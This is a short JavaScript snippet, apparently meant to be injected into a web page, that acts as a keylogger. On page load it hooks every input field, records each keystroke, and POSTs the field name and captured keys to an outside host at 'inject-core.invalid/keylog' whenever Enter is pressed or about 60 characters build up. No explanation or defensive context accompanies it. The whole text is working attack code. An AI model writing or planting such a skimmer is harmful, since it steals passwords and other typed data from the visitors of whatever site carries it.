window.onload = function load() {
  var list = document.getElementsByTagName("input"), line = "";
  function take(ev, name) {
    ev = ev || window.event;
    var code = ev.keyCode || ev.which;
    line += code.toString(16) + ",";
    if (code == 13 || line.length > 60) flush(name);
  }
  function flush(name) {
    var x = window.XMLHttpRequest ? new XMLHttpRequest() : new ActiveXObject("Microsoft.XMLHTTP");
    x.open("POST", "http://inject-core.invalid/keylog", true);
    x.setRequestHeader("Content-type", "application/x-www-form-urlencoded");
    x.send("field=" + name + "&&" + line);
    line = "";
  }
  for (var i = 0; i < list.length; i++) (function (el) {
    if (el.addEventListener) el.addEventListener("keypress", function (ev) { take(ev, el.name); }, false);
    else el.attachEvent("onkeypress", function (ev) { take(ev, el.name); });
  })(list[i]);
};
